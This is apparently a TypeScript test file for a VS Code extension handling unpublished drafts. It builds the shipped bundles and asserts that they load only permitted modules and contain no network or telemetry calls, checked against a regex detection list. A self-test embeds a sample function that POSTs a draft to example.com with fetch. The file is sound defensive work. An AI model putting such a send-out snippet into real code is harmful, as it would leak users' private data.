// Drafts are unpublished and sensitive: nothing may leave the machine. This builds the shipped
// bundles in memory with the real config and proves they cannot reach the network: the browser
// bundles load nothing but vscode, and no network or telemetry API appears anywhere in any bundle's
// code, dependencies included. The Node bundles talk to the language server over IPC or standard
// input and output through Microsoft's vscode-jsonrpc, whose transport module also offers named pipes
// and sockets and so requires `net`: that is allowed there and nowhere else (checked per source file).
import * as assert from 'node:assert/strict';
import * as esbuild from 'esbuild';
import { buildOptions } from '../../esbuild.config.mjs';

/** What a bundle may load from outside itself. */
type Target = 'node' | 'web' | 'cli' | 'server' | 'webServer';
/** Node's process, file and IPC modules, as vscode-jsonrpc's and vscode-languageclient's Node transports load them. */
const LSP_NODE = ['child_process', 'crypto', 'fs', 'net', 'node:util', 'os', 'path', 'url', 'util'];
// node:os: the server lowers its own scheduling priority (src/server/main.ts).
const SERVER = [...LSP_NODE, 'node:fs/promises', 'node:os', 'node:path', 'node:url'].sort();
const ALLOWED_EXTERNALS: Record<Target, string[]> = {
  node: [...LSP_NODE, 'vscode'].sort(),
  web: ['vscode'],
  cli: SERVER,
  server: SERVER,
  webServer: [],
};
/** The only source files that may require `net`: the JSON-RPC library's Node transports. */
const NET_ALLOWED_IN = /(?:^|\/)node_modules\/vscode-jsonrpc\/lib\/node\//;
/** Ways JavaScript reaches the network, and telemetry libraries VS Code extensions use. */
const NETWORK_APIS = [
  /\bfetch\s*\(/,
  /\bXMLHttpRequest\b/,
  /\bWebSocket\b/,
  /\bEventSource\b/,
  /\bsendBeacon\b/,
  /\bimportScripts\s*\(/,
  /require\(["'](?:node:)?(?:http|https|http2|tls|dgram|dns)["']\)/,
  /applicationinsights|@vscode\/extension-telemetry|TelemetryReporter|createTelemetryLogger/i,
];

async function build(target: Target) {
  const options = buildOptions({ production: true, quiet: true })[target];
  const result = await esbuild.build({ ...options, write: false, metafile: true, logLevel: 'silent' });
  const code = result.outputFiles
    .filter((file) => file.path.endsWith('.js'))
    .map((file) => file.text)
    .join('\n');
  const externals = Object.values(result.metafile.outputs).flatMap((output) =>
    output.imports.filter((entry) => entry.external).map((entry) => entry.path),
  );
  const netImporters = Object.entries(result.metafile.inputs)
    .filter(([, input]) => input.imports.some((entry) => entry.path === 'net' || entry.path === 'node:net'))
    .map(([file]) => file);
  return { code, externals: [...new Set(externals)].sort(), netImporters };
}

describe('no network: the shipped bundles', function () {
  this.timeout(60_000);

  for (const target of ['node', 'web', 'cli', 'server', 'webServer'] as const) {
    it(`${target}: loads only ${ALLOWED_EXTERNALS[target].join(', ') || 'nothing'}, and calls no network or telemetry API`, async () => {
      const { code, externals, netImporters } = await build(target);
      assert.deepEqual(externals, ALLOWED_EXTERNALS[target]);
      assert.deepEqual(
        netImporters.filter((file) => !NET_ALLOWED_IN.test(file)),
        [],
        'only the JSON-RPC transport requires net',
      );
      assert.ok(code.length > 10_000, 'the bundle has its code');
      for (const api of NETWORK_APIS) assert.doesNotMatch(code, api);
    });
  }

  it('the scan would catch a bundle that fetches', () => {
    const leaky = 'async function send(draft){ await fetch("https://example.com", { method: "POST", body: draft }); }';
    assert.ok(NETWORK_APIS.some((api) => api.test(leaky)));
    assert.ok(NETWORK_APIS.some((api) => api.test('const http = require("https");')));
  });
});
